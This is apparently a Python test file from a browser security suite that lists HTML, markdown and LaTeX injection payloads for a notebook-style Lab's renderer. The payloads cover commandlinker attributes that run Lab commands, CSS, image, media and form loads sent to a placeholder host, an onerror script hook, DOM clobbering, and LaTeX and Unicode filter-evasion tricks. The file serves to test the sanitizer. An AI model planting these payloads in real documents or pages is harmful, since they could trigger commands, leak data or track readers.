"""HTML, markdown and LaTeX that reach elsewhere, change the page or run the Lab's commands."""

# ruff: noqa: E501 - what an attack says is easier to read in one piece

from tests.browser.attacks.attack import ALL, QUIET, SAVED, Attack, html, mime

_COMMAND = (
    'data-commandlinker-command="docmanager:new-untitled" '
    'data-commandlinker-args=\'{"path": "@MARK@", "type": "file"}\''
)
_FAR = "@HOST@/@MARK@"

ATTACKS = (
    Attack(
        "command",
        "a button that runs a command of the Lab",
        html(f"<button {_COMMAND}>x</button>"),
        SAVED,
    ),
    Attack(
        "command-link",
        "a link that does",
        html(f"<a href='#' {_COMMAND}>x</a><p {_COMMAND}>x</p>"),
        SAVED,
    ),
    Attack(
        "command-svg",
        "a drawing that does",
        html(f"<svg {_COMMAND} width=9 height=9><rect {_COMMAND} width=9 height=9 /></svg>"),
        SAVED,
    ),
    Attack(
        "command-markdown",
        "a link in markdown that does",
        mime("text/markdown", f"<a {_COMMAND}>x</a>"),
        SAVED,
    ),
    Attack(
        "meta-refresh",
        "sends the page elsewhere",
        html(f'<meta http-equiv="refresh" content="0;url={_FAR}/refresh">'),
        SAVED,
        group=QUIET,
    ),
    Attack(
        "base",
        "moves every relative address of the page",
        html(f'<base href="{_FAR}/"><img src="relative">'),
        SAVED,
        group=QUIET,
    ),
    Attack(
        "style-import",
        "a style sheet from elsewhere",
        html(f"<style>@import url({_FAR}/import.css);</style>"),
        SAVED,
    ),
    Attack(
        "style-page",
        "restyles the page and loads by it",
        html(
            f"<style>body{{--pwned:url({_FAR}/var)}} .jp-Toolbar{{border-image:url({_FAR}/page)}}</style>"
        ),
        SAVED,
    ),
    Attack(
        "style-url",
        "style attributes that load",
        html(
            f'<p style="background:url({_FAR}/background)">x</p><p style="list-style-image:u\\72l({_FAR}/list);display:list-item">x</p><p style=\'background-image:image-set("{_FAR}/set" 1x)\'>x</p><p style=\'cursor:url({_FAR}/cursor),auto\'>x</p>'
        ),
        ALL,
    ),
    Attack(
        "style-content",
        "generated content, masks and filters that load",
        html(
            f'<p style="mask-image:url({_FAR}/mask);filter:url({_FAR}/filter#x);clip-path:url({_FAR}/clip#x);border-image:url({_FAR}/border) 1;shape-outside:url({_FAR}/shape);float:left">x</p>'
        ),
        SAVED,
    ),
    Attack(
        "style-font",
        "a font from elsewhere",
        html(
            f"<style>@font-face{{font-family:pwned;src:url({_FAR}/font)}}</style><p style='font-family:pwned'>x</p>"
        ),
        SAVED,
    ),
    Attack(
        "legacy-background",
        "background attributes",
        html(f'<table background="{_FAR}/table"><tr><td background="{_FAR}/cell">x</table>'),
        SAVED,
    ),
    Attack(
        "link-sheet",
        "link elements that load or prepare to",
        html(
            f'<link rel=stylesheet href="{_FAR}/a.css"><link rel=prefetch href="{_FAR}/prefetch"><link rel=preload as=image href="{_FAR}/preload"><link rel=modulepreload href="{_FAR}/a.js"><link rel=icon href="{_FAR}/icon">'
        ),
        SAVED,
    ),
    Attack(
        "speculation",
        "rules for fetching pages in advance",
        html(
            '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["@HOST@/@MARK@/speculation"]}]}</script>'
        ),
        SAVED,
        group=QUIET,
    ),
    Attack("img", "a picture from elsewhere", html(f'<img src="{_FAR}/img">'), ALL),
    Attack(
        "img-relative",
        "a picture that is an address of the server",
        html('<img src="/api/status?@MARK@"><img src="//127.0.0.1:1/@MARK@">'),
        ALL,
    ),
    Attack(
        "img-backslash",
        "the same with backslashes, tabs and no scheme",
        html(
            '<img src="\\\\127.0.0.1:1/x"><img src="&#9;@HOST@/@MARK@/tab"><img src="ht&#10;tp:@HOST@/@MARK@/newline">'
        ),
        ALL,
    ),
    Attack(
        "srcset",
        "pictures for several resolutions",
        html(
            f'<img srcset="{_FAR}/srcset 1x"><picture><source srcset="{_FAR}/picture"><img></picture>'
        ),
        SAVED,
    ),
    Attack(
        "img-lazy",
        "a picture with attributes of other libraries",
        html(
            f'<img loading=eager src="data:image/png;base64,xx" lowsrc="{_FAR}/low" dynsrc="{_FAR}/dyn" data-src="{_FAR}/data">'
        ),
    ),
    Attack(
        "input-image",
        "a button that is a picture",
        html(f'<input type=image src="{_FAR}/input">'),
        ALL,
    ),
    Attack(
        "video",
        "a video, its poster, its track and a sound",
        html(
            f'<video src="{_FAR}/video" poster="{_FAR}/poster" preload=auto></video><video><source src="{_FAR}/source"></video><audio src="{_FAR}/audio" preload=auto></audio><video><track default src="{_FAR}/track"></video>'
        ),
        ALL,
    ),
    Attack(
        "ping",
        "a link that tells another address when clicked",
        html(f'<a href="#x" ping="{_FAR}/ping">x</a>'),
        frozenset(),
    ),
    Attack(
        "svg-image",
        "inline SVG that loads",
        html(
            f'<svg><image href="{_FAR}/image"/><image xlink:href="{_FAR}/xlink"/><feImage href="{_FAR}/fe"/><use href="{_FAR}/use#x"/></svg>'
        ),
        SAVED,
    ),
    Attack(
        "svg-data",
        "SVG in a picture's address that loads",
        html(
            f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{_FAR}/inner'/><style>@import url({_FAR}/style.css)</style></svg>\">"
        ),
    ),
    Attack(
        "math",
        "MathML with links",
        html(
            f'<math href="javascript:1"><mi href="javascript:1" style="background:url({_FAR}/math)">x</mi></math>'
        ),
        SAVED,
    ),
    Attack(
        "markdown-image",
        "a picture in markdown",
        mime("text/markdown", f"![x]({_FAR}/markdown) ![y][z]\n\n[z]: {_FAR}/reference"),
        ALL,
    ),
    Attack(
        "markdown-style",
        "a style sheet in markdown",
        mime(
            "text/markdown",
            f"<style>@import url({_FAR}/markdown.css);</style><b style='background:url({_FAR}/b)'>x</b>",
        ),
        ALL,
    ),
    Attack(
        "markdown-math",
        "formulas in markdown with links and styles",
        mime(
            "text/markdown",
            rf"$\href{{javascript:1}}{{x}} \style{{background:url({_FAR}/math)}}{{y}} \class{{jp-Dialog}}{{z}}$",
        ),
        frozenset(),
    ),
    Attack(
        "latex",
        "LaTeX with links and styles",
        mime(
            "text/latex",
            rf"$\href{{javascript:1}}{{x}} \style{{background:url({_FAR}/latex)}}{{y}} \cssId{{main}}{{z}} \require{{html}}$",
        ),
        frozenset(),
    ),
    Attack(
        "latex-html",
        "LaTeX that is HTML",
        mime("text/latex", '<img src=x: onerror="@JS@"> $x$'),
        frozenset(),
    ),
    Attack(
        "latex-macro",
        "LaTeX that defines its way round a filter",
        mime(
            "text/latex",
            rf"$\def\x#1#2{{\csname sty#1\endcsname{{background:url({_FAR}/csname)}}{{#2}}}}\x{{le}}{{y}} \let\s\style \s{{background:url({_FAR}/let)}}{{y}} \newcommand{{\q}}{{\style}}\q{{background:url({_FAR}/new)}}{{y}} \unicode[x;background:url({_FAR}/unicode)]{{65}} \mmlToken{{mi}}[style='background:url({_FAR}/token)']{{x}} \bbox[background:url({_FAR}/bbox)]{{x}}$",
        ),
        ALL,
    ),
    Attack(
        "html-math",
        "formulas in HTML",
        html(
            rf"<p>$\style{{background:url({_FAR}/htmlmath)}}{{y}} \href{{javascript:1}}{{x}}$ \(\sty<!-- -->le{{background:url({_FAR}/split)}}{{y}}\)</p>"
        ),
        frozenset(),
    ),
    Attack(
        "dom-clobber",
        "names that the page looks up",
        html(
            "<form id=body name=head><input name=querySelector></form><a id=jupyter-config-data>{}</a><img name=currentScript>"
        ),
    ),
    Attack(
        "autocomplete",
        "an input and a text field that take what is typed",
        html(f'<form action="{_FAR}/typed" target="pwned"><input name=a><button>x</button></form>'),
        SAVED,
    ),
    Attack(
        "dangling",
        "an attribute that is never closed",
        html(f"<img src='{_FAR}/dangling?"),
        frozenset(),
    ),
    Attack(
        "surrogate",
        "odd bytes in addresses and names",
        html(
            f'<img\x00 src="{_FAR}/nul"><img src="{_FAR}/\ufffd"><\u0131mg src="{_FAR}/dotless">'
            f'<img\u00a0src="{_FAR}/space"><img/src="{_FAR}/slash">'
        ),
        ALL,
    ),
)
